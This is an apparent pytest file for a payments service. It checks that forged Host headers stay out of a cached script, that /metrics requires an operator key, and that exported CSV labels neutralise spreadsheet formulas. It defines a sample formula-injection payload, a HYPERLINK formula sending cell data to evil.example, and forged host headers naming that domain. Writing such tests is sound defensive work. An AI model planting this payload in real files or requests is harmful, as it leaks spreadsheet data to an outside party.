"""The low-severity findings, each attacked: a forged Host header is not written into the
cacheable button script, /metrics answers no one without an operator's key, and a device
header that a spreadsheet would run as a formula is exported as text."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from centime.auth import Scope
from centime.platform.errors import Refusal
from centime.platform.ids import parse_id
from centime.platform.review import export_labels, label_case
from centime.risk.types import Action
from tests.risk.screens import ScriptedScreen, decision

from ..api.conftest import Api
from ..platform.world import fund
from .conftest import Server

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


def test_a_forged_host_is_not_written_into_the_button_script(server: Server) -> None:
    port = server.url.rsplit(":", 1)[1]
    for headers in (
        {"host": "evil.example"},
        {"host": f"evil.example:{port}"},
        {"x-forwarded-host": "evil.example"},
    ):
        script = httpx.get(f"{server.url}/pay/button.js", headers=headers, timeout=10)
        assert script.status_code == 200
        assert "evil.example" not in script.text
        assert f"http://localhost:{port}" in script.text  # the configured origin


def test_metrics_answer_only_an_operators_key(server: Server) -> None:
    anonymous = httpx.get(f"{server.url}/metrics", timeout=10)
    assert anonymous.status_code == 401 and "centime_http" not in anonymous.text
    bogus = httpx.get(
        f"{server.url}/metrics", timeout=10, headers={"authorization": "Bearer ck_key_nope_nope"}
    )
    assert bogus.status_code == 401
    scraped = httpx.get(
        f"{server.url}/metrics",
        timeout=10,
        headers={"authorization": f"Bearer {server.operator_key}"},
    )
    assert scraped.status_code == 200 and "centime_http_requests_total" in scraped.text


@pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)
def test_a_formula_in_the_device_header_is_exported_as_text(api: Api) -> None:
    ops = api.operator
    ada, shop = ops.create_customer("Ada"), api.merchant()
    ada_id = parse_id("cus", ada.id)
    assert ada_id is not None
    fund(api.platform, ada_id, "USD", 10_000)
    api.platform.screen = ScriptedScreen(lambda e: decision(Action.REVIEW, "new_device"))
    body = {
        "customer_id": ada.id,
        "merchant_id": shop.id,
        "amount": {"value": "900", "asset": "USD", "scale": 6},
    }
    held = api.http.post(
        "/v1/payments",
        json=body,
        headers=api.headers(
            api.key(Scope.ADMIN), **{"centime-device": FORMULA, "Idempotency-Key": "f1"}
        ),
    )
    assert held.status_code == 202, held.text
    case_id = parse_id("case", held.json()["case_id"])
    assert case_id is not None
    assert not isinstance(label_case(api.platform, case_id, "fraud"), Refusal)
    out = io.StringIO()
    assert export_labels(api.platform, out) == 1  # what `centime risk export-labels` writes
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    device = row[header.index("device")]
    assert device == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
